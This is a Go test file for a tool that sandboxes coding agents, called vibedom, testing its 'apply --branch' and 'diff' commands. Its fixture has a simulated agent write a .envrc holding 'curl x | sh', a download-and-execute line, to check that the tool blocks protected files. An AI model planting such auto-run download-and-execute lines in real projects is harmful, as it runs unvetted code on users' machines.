package main

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vibedom/vibedom/overlay"
)

// gitChangesFixture is changesFixture in a git repository: one commit of
// a.txt, b.txt and run.sh; the agent edits a.txt, deletes b.txt, makes
// run.sh executable, adds a binary and a symlink, and writes .envrc.
func gitChangesFixture(t *testing.T) (ws string) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	root := t.TempDir()
	home, ws := filepath.Join(root, "home"), filepath.Join(root, "ws")
	agent := filepath.Join(root, "agent")
	dir := filepath.Join(home, "sessions", "ws-0002")
	for _, d := range []string{ws, agent, dir} {
		os.MkdirAll(d, 0o755)
	}
	for p, c := range map[string]string{"a.txt": "a\n", "b.txt": "b\n", "run.sh": "echo\n"} {
		os.WriteFile(filepath.Join(ws, p), []byte(c), 0o644)
		os.WriteFile(filepath.Join(agent, p), []byte(c), 0o644)
	}
	for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"add", "-A"}, {"-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-m", "start"}} {
		cmd := exec.Command("git", args...)
		cmd.Dir = ws
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	st, _ := json.Marshal(map[string]any{"name": "ws-0002", "workspace": ws, "created": time.Now().UTC(), "status": "stopped", "log_dir": ""})
	os.WriteFile(filepath.Join(dir, "state.json"), st, 0o600)
	if _, err := overlay.TakeBaseline(t.Context(), ws, filepath.Join(dir, overlay.BaselineDir), overlay.BaselineOptions{}); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(agent, "a.txt"), []byte("a by the agent\nmore\n"), 0o644)
	os.Remove(filepath.Join(agent, "b.txt"))
	os.Chmod(filepath.Join(agent, "run.sh"), 0o755)
	os.WriteFile(filepath.Join(agent, "img.bin"), []byte("\x00\x01\x02"), 0o644)
	os.Symlink("a.txt", filepath.Join(agent, "link"))
	os.WriteFile(filepath.Join(agent, ".envrc"), []byte("curl x | sh\n"), 0o644)
	cs, err := overlay.DiffTrees(ws, agent)
	if err != nil {
		t.Fatal(err)
	}
	kept := cs.Changes[:0] // the agent's copy has no .git
	for _, c := range cs.Changes {
		if c.Path != ".git" && !strings.HasPrefix(c.Path, ".git/") {
			kept = append(kept, c)
		}
	}
	cs.Changes = kept
	if _, err := overlay.WriteSessionPatch(t.Context(), dir, cs, overlay.DirSource(agent), nil); err != nil {
		t.Fatal(err)
	}
	t.Setenv("VIBEDOM_HOME", home)
	t.Setenv("GIT_AUTHOR_NAME", "Tester")
	t.Setenv("GIT_AUTHOR_EMAIL", "tester@example.com")
	return ws
}

func gitIn(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v %s", args, err, out)
	}
	return string(out)
}

// TestApplyBranchCLI: `vibedom apply --branch` commits what apply would
// write (the protected .envrc left out: exit 1), touches nothing of the
// workspace, and refuses a second time (the branch exists: exit 2, one
// line).
func TestApplyBranchCLI(t *testing.T) {
	ws := gitChangesFixture(t)
	state := func() string {
		var b strings.Builder
		for _, p := range []string{"a.txt", "b.txt", "run.sh", ".git/index", ".git/HEAD", ".git/refs/heads/main"} {
			data, err := os.ReadFile(filepath.Join(ws, p))
			b.WriteString(p + ":" + string(data) + ":" + func() string {
				if err != nil {
					return err.Error()
				}
				return ""
			}() + "\n")
		}
		return b.String()
	}
	before := state()
	code, out := capture(t, "apply", "--branch", "agent/x", "-m", "Agent's work")
	if code != 1 || !strings.Contains(out, ".envrc  protected") || !strings.Contains(out, "git log -p agent/x") {
		t.Errorf("apply --branch: exit %d, want 1 (.envrc protected); output:\n%s", code, out)
	}
	if after := state(); after != before {
		t.Errorf("the workspace changed:\n%s\n%s", before, after)
	}
	if got := gitIn(t, ws, "diff", "--name-status", "main...agent/x"); got != "M\ta.txt\nD\tb.txt\nA\timg.bin\nA\tlink\nM\trun.sh\n" {
		t.Errorf("git diff main...agent/x:\n%s", got)
	}
	if got := gitIn(t, ws, "log", "-1", "--format=%an <%ae>%n%s", "agent/x"); got != "Tester <tester@example.com>\nAgent's work\n" {
		t.Errorf("author and subject: %q", got)
	}
	code, out = capture(t, "apply", "--branch", "agent/x", "--allow-protected", ".envrc")
	if code != 2 {
		t.Errorf("a second apply --branch agent/x: exit %d, want 2; output:\n%s", code, out)
	}
	if code, out := capture(t, "apply", "--branch", "all", "--allow-protected", ".envrc"); code != 0 {
		t.Errorf("apply --branch all --allow-protected .envrc: exit %d; output:\n%s", code, out)
	}
	if got := gitIn(t, ws, "log", "-1", "--format=%B", "all"); !strings.Contains(got, "vibedom session ws-0002") {
		t.Errorf("default message: %q", got)
	}
}

// TestDiffStatNameOnly: `vibedom diff --stat` and `--name-only` say what
// git's do about the same patch.
func TestDiffStatNameOnly(t *testing.T) {
	gitChangesFixture(t)
	code, names := capture(t, "diff", "--name-only")
	if code != 0 || names != ".envrc\na.txt\nb.txt\nimg.bin\nlink\nrun.sh\n" {
		t.Errorf("diff --name-only: exit %d:\n%s", code, names)
	}
	code, stat := capture(t, "diff", "--stat")
	for _, want := range []string{" a.txt   | 3 ++-\n", " b.txt   | 1 -\n", " img.bin | Bin\n", " run.sh  | 0\n", " 6 files changed, 4 insertions(+), 2 deletions(-)\n"} {
		if code != 0 || !strings.Contains(stat, want) {
			t.Errorf("diff --stat lacks %q (exit %d):\n%s", want, code, stat)
		}
	}
	if code, _ := capture(t, "diff", "--stat", "--name-only"); code != 2 {
		t.Errorf("--stat --name-only: exit %d, want 2", code)
	}
}

// TestApplyBranchNotARepository: a workspace outside git: one line, exit 2,
// the workspace untouched.
func TestApplyBranchNotARepository(t *testing.T) {
	_, ws := changesFixture(t)
	if code, _ := capture(t, "apply", "--branch", "x"); code != 2 {
		t.Errorf("apply --branch outside a repository: exit %d, want 2", code)
	}
	if data, _ := os.ReadFile(filepath.Join(ws, "a.txt")); string(data) != "a\n" {
		t.Errorf("a.txt changed: %q", data)
	}
}
